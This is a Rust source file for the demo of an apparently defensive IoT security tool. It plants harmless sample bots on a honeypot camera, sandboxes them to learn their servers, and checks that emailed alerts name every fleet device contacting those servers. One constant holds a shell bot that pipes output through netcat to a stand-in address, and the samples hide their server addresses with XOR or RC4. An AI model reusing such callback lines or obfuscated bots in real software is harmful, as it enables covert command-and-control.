//! The laboratory's demo: attackers leave files on a camera that is none; the laboratory finds out with whom they are in
//! contact; devices of the fleet that are in contact with the same are found, and a mail tells of each.
//!
//! The files are harmless programs of ours (docs/samples.md). Devices, attackers and servers are imitations on this machine;
//! addresses are those that only stand in documents, and what is shown says so.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context, anyhow, bail, ensure};
use serde_json::Value;

use crate::device::{Device, Networks};
use crate::kits::{self, sha256_hex};
use crate::mailbox::{Mail, Mailbox};
use crate::programs::{Program, last_words, run_to_end};
use crate::server::{AwsCli, Server};
use crate::steps::{Notes, Steps};
use crate::tools::{self, Missing, PythonTools};
use crate::walkthrough::{Run, subscribe, topic_arn};
use crate::{samples, threat, workspace};

/// The bots of the demo: the guest that each runs in, the processor that it is compiled for, how it hides its server.
const BOTS: [(&str, &str, &str); 5] = [
    ("arm", "armv5", "xor4-folded"),
    ("arm64", "arm64", "rc4"),
    ("mips", "mips", "xor1"),
    ("mipsel", "mipsel", "xor4"),
    ("x86_64", "x86_64", "plain"),
];

/// A bot that is a script, and never ends: its run takes the whole time of a run.
const SCRIPT: &str = "#!/bin/sh\n# A harmless bot of the demo: it says hello, again and again.\n\
                      while :; do echo hello; sleep 2; done | nc 203.0.113.66 4444\n";
const SCRIPT_SERVER: (&str, u16) = ("203.0.113.66", 4444);

/// How long a sample runs at most.
const RUN_S: u64 = 60;
/// From the file that is left to the mail, with a run of that time.
const TIME_TO_PROTECT_MAX: Duration = Duration::from_secs(90);
/// When something is wrong, it is not waited for longer.
const MAIL_LIMIT: Duration = Duration::from_secs(240);
/// Each look costs next to nothing.
const PAUSE: Duration = Duration::from_millis(50);

/// A file that an attacker leaves, and the device of the fleet that is in contact with its server.
struct Planted {
    path: PathBuf,
    /// For people.
    what: String,
    sha256: String,
    thing: String,
    server: String,
    port: u16,
}

/// What goes on running while the files are looked at.
struct Infected {
    _device: Device,
    _agent: Program,
    _bot: Program,
}

/// Builds what the demo needs: guests for its processors, bots for them.
pub(crate) fn prepare() -> anyhow::Result<Networks> {
    for tools in [PythonTools::Clients, PythonTools::Agent2] {
        tools.install()?;
    }
    tools::need_curl()?;
    tools::need_ip()?;
    let networks = Networks::probe();
    if networks == Networks::Shared {
        return Err(Missing::new(
            "network namespaces: each device of the demo has a network of its own",
            "allow user namespaces (sudo sysctl kernel.apparmor_restrict_unprivileged_userns=0 on Ubuntu), or run it as root",
        )
        .into());
    }
    println!("Building guests for {} processors; the first time, this takes some minutes for each …", BOTS.len());
    let isas = BOTS.map(|(isa, ..)| isa);
    kits::need(&isas)?;
    kits::make(&isas)?;
    println!("Compiling our harmless bots …");
    samples::make(&BOTS.map(|(_, target, _)| target))?;
    Ok(networks)
}

/// Performs all of it in `folder`, which is empty. Succeeds only if a mail told of every device in time.
pub(crate) fn perform(steps: &mut Steps, folder: &Path, networks: Networks) -> anyhow::Result<()> {
    let logs = folder.join("logs");
    fs::create_dir_all(&logs).with_context(|| format!("cannot make {}", logs.display()))?;
    let run = Run { folder, networks, logs: &logs };
    show(steps, &run).map_err(|error| match error.is::<Missing>() {
        true => error,
        false => anyhow!("{error:#}\n\nThe last words of each program:\n{}", last_words(&logs)),
    })
}

fn show(steps: &mut Steps, run: &Run<'_>) -> anyhow::Result<()> {
    let planted = files(run.folder)?;
    let (mailbox, _mail_server, smtp) = steps.step("a mail server listens", |notes| run.start_mail_server(notes))?;
    let offset = threat::free_offset()?;
    let mut server = steps.step("komainu serve has a camera that is none, and a laboratory", |notes| {
        let server = run.start_server(notes, &smtp, &configuration(run.folder, offset))?;
        notes.show("addresses that only stand in documents may be indicators here (intel.documentation_addresses)");
        Ok(server)
    })?;
    let aws = steps.step("its first access key works with the AWS CLI", |notes| run.point_cli(notes, &server))?;
    steps.step("an e-mail subscription is confirmed by its link", |notes| subscribe(notes, &aws, &mailbox))?;
    steps.step("every device is guarded against whatever the laboratory finds", |notes| {
        let topic = topic_arn();
        notes.show(format!("$ komainu indicators guard --topic {topic}"));
        notes.show(run_to_end(&mut server.command(&["indicators", "guard", "--topic", &topic]))?);
        Ok(())
    })?;
    let infected = steps.step("devices of the fleet report whom they talk to, with AWS's agent", |notes| {
        for planted in &planted {
            run_to_end(server.command(&["enroll", &planted.thing]).arg("--out").arg(run.device_files()))?;
        }
        // Each takes its time to start; they do not wait for each other.
        let infect = |planted: &Planted| infect(run, &server, planted);
        let infected = each_at_once(&planted, infect)?;
        Ok(infected.into_iter().map(|(infected, line)| keep(infected, line, notes)).collect::<Vec<_>>())
    })?;
    steps.step("all is quiet: nobody knows yet whose servers these are", |notes| quiet(notes, &aws))?;
    let begun = steps.step("attackers leave their programs on the camera", |notes| {
        let left = each_at_once(&planted, |planted| leave(offset, planted))?;
        Ok(left.into_iter().map(|(at, line)| keep(at, line, notes)).collect::<Vec<_>>())
    })?;
    let mails = steps.step("a mail tells of each device, and which attack taught it", |notes| {
        let mails = wait_for_mails(&mailbox, &planted, &begun)?;
        for (planted, (mail, took)) in planted.iter().zip(&mails) {
            notes.show(format!("{:>5.1} s  {}  ({})", took.as_secs_f64(), mail.subject, planted.what));
        }
        let first = &mails[0].0;
        first.text.lines().for_each(|line| notes.show(format!("  │ {line}")));
        Ok(mails)
    })?;
    steps.step("what the laboratory says of the first of them", |notes| {
        let sha256 = &planted[0].sha256;
        notes.show(format!("$ komainu samples report {sha256}"));
        notes.show(run_to_end(&mut samples_command(&server, &["report", sha256]))?);
        let shown = run_to_end(&mut samples_command(&server, &["show", sha256]))?;
        ensure!(shown.contains("from        sensor gate, session "), "nobody knows how it came:\n{shown}");
        notes.show(shown);
        Ok(())
    })?;
    drop(infected);
    steps.step("time to protect: from the file on the camera to the mail", |notes| {
        for (planted, (_, took)) in planted.iter().zip(&mails) {
            notes.show(format!("{:<50} {:>5.1} s", planted.what, took.as_secs_f64()));
        }
        let slowest = mails.iter().map(|(_, took)| *took).max().unwrap_or_default();
        ensure!(slowest <= TIME_TO_PROTECT_MAX, "the slowest took {} s", slowest.as_secs());
        Ok(())
    })?;
    let status = server.stop()?;
    ensure!(status.success(), "komainu did not end well on SIGTERM: {status}");
    Ok(())
}

/// Does something for each, all at the same time.
fn each_at_once<T: Send>(
    planted: &[Planted],
    act: impl Fn(&Planted) -> anyhow::Result<T> + Sync,
) -> anyhow::Result<Vec<T>> {
    thread::scope(|scope| {
        let act = &act;
        let started: Vec<_> = planted.iter().map(|planted| scope.spawn(move || act(planted))).collect();
        started.into_iter().map(|one| one.join().map_err(|_| anyhow!("a part of the demo ended in a bug"))?).collect()
    })
}

/// Shows what was said of something, and gives it on.
fn keep<T>(value: T, line: String, notes: &mut Notes) -> T {
    notes.show(line);
    value
}

/// What differs from the defaults.
fn configuration(folder: &Path, offset: u16) -> String {
    let text = |path: PathBuf| toml_text(&path.display().to_string());
    let (kits, snapshots) = (text(kits::all()), text(folder.join("snapshots")));
    format!(
        "[intel]\ndocumentation_addresses = true\n\n\
         [sensor]\nid = \"gate\"\nrun_in_serve = true\npersonas = [\"camera\"]\nport_offset = {offset}\n\n\
         [sandbox]\nkits = {kits}\nsnapshots = {snapshots}\nruns_at_once = {}\n\n\
         [lab]\nworkers = {}\nseconds = {RUN_S}\nquiet_seconds = 0\n",
        2 * (BOTS.len() + 1),
        BOTS.len() + 1,
    )
}

fn toml_text(text: &str) -> String {
    // A basic string of TOML has the escapes of JSON.
    Value::from(text).to_string()
}

/// The files of the attackers, the one whose run takes longest first.
fn files(folder: &Path) -> anyhow::Result<Vec<Planted>> {
    let script = folder.join("hello.sh");
    fs::write(&script, SCRIPT).with_context(|| format!("cannot write {}", script.display()))?;
    let mut planted = vec![Planted {
        what: format!("a script, run for {RUN_S} s on arm"),
        sha256: sha256_hex(SCRIPT.as_bytes()),
        thing: "Recorder".to_owned(),
        server: SCRIPT_SERVER.0.to_owned(),
        port: SCRIPT_SERVER.1,
        path: script,
    }];
    let truth = samples::folder().join("samples.json");
    let text = fs::read(&truth).with_context(|| format!("cannot read {}", truth.display()))?;
    let truth: Vec<Value> = serde_json::from_slice(&text).context("samples.json is no list")?;
    for (isa, target, way) in BOTS {
        let is_it = |bot: &&Value| bot["isa"] == target && bot["way"] == way && bot["linkage"] == "static";
        let bot = truth.iter().find(is_it).with_context(|| format!("there is no bot {way} for {target}"))?;
        let text = |key: &str| bot[key].as_str().map(str::to_owned).with_context(|| format!("the bot has no {key}"));
        planted.push(Planted {
            path: samples::folder().join(text("file")?),
            what: format!("a bot for {target}, its server {}", hidden(way)),
            sha256: text("sha256")?,
            thing: format!("Camera-{isa}"),
            server: text("server")?,
            port: bot["port"].as_u64().and_then(|port| u16::try_from(port).ok()).context("the bot has no port")?,
        });
    }
    Ok(planted)
}

fn hidden(way: &str) -> &'static str {
    match way {
        "plain" => "in the clear",
        "xor1" => "hidden by a byte",
        "rc4" => "hidden by RC4",
        _ => "hidden by four bytes",
    }
}

/// A device of the fleet that is in contact with the server of a file that is not known yet.
fn infect(run: &Run<'_>, server: &Server, planted: &Planted) -> anyhow::Result<(Infected, String)> {
    let thing = &planted.thing;
    let (device, agent) = run.start_agent(&mut Notes::default(), server, thing, PythonTools::Agent2, "json")?;
    let mut command = device.command(&PythonTools::Agent2.program("python"));
    command.arg(workspace::root().join("demo/infected.py")).args([&planted.server, &planted.port.to_string()]);
    let mut bot = Program::start(&format!("infected-{thing}"), &mut command, run.logs)?;
    let line = bot.wait_for("its connection", Duration::from_secs(30), |output| {
        output.lines().find(|line| line.starts_with("connected")).map(str::to_owned)
    })?;
    Ok((Infected { _device: device, _agent: agent, _bot: bot }, format!("{thing}: {line}")))
}

fn quiet(notes: &mut Notes, aws: &AwsCli) -> anyhow::Result<()> {
    let answer = aws.run(notes, &["iot", "list-active-violations"])?;
    let found = answer["activeViolations"].as_array().context("no list of active violations")?;
    ensure!(found.is_empty(), "there are violations before anything has happened: {answer}");
    Ok(())
}

/// Is an attacker. When the file was there, and what the camera said.
fn leave(offset: u16, planted: &Planted) -> anyhow::Result<(Instant, String)> {
    let mut attacker = Command::new(tools::python()?);
    attacker.arg(workspace::root().join("demo/planter.py"));
    attacker.args(["--address", "127.0.0.1", "--port", &(21 + offset).to_string()]).arg(&planted.path);
    let said = run_to_end(&mut attacker)?;
    Ok((Instant::now(), format!("{}  {}", said.lines().last().unwrap_or_default(), planted.what)))
}

/// For each file the mail that tells of it, and how long after it was left it came.
fn wait_for_mails(mailbox: &Mailbox, planted: &[Planted], begun: &[Instant]) -> anyhow::Result<Vec<(Mail, Duration)>> {
    let mut found: Vec<Option<(Mail, Duration)>> = planted.iter().map(|_| None).collect();
    let until = Instant::now() + MAIL_LIMIT;
    while Instant::now() < until {
        let mails = mailbox.mails()?;
        for ((planted, begun), found) in planted.iter().zip(begun).zip(&mut found) {
            let is_it = |mail: &&Mail| mail.text.contains(&planted.sha256) && mail.text.contains(&planted.thing);
            if found.is_none()
                && let Some(mail) = mails.iter().find(is_it)
            {
                *found = Some((mail.clone(), begun.elapsed()));
            }
        }
        if found.iter().all(Option::is_some) {
            return Ok(found.into_iter().flatten().collect());
        }
        thread::sleep(PAUSE);
    }
    let missing: Vec<&str> = planted
        .iter()
        .zip(&found)
        .filter(|(_, mail)| mail.is_none())
        .map(|(planted, _)| planted.what.as_str())
        .collect();
    bail!("no mail tells of {}", missing.join(", "))
}

/// `komainu samples …` on the server's folder.
fn samples_command(server: &Server, arguments: &[&str]) -> Command {
    let mut words = vec!["samples"];
    words.extend(arguments);
    server.command(&words)
}
